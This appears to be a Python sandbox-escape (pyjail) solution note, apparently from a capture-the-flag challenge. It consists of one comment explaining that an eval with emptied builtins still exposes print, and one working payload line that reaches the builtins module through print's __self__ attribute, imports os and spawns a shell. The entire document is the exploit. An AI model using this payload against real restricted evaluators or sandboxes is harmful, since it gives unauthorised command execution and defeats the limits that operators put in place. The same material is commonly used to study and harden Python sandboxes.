# restriction: eval with __builtins__ emptied but print exposed; idea: a builtin function's __self__ is the builtins module
print.__self__.__import__('os').system('sh')
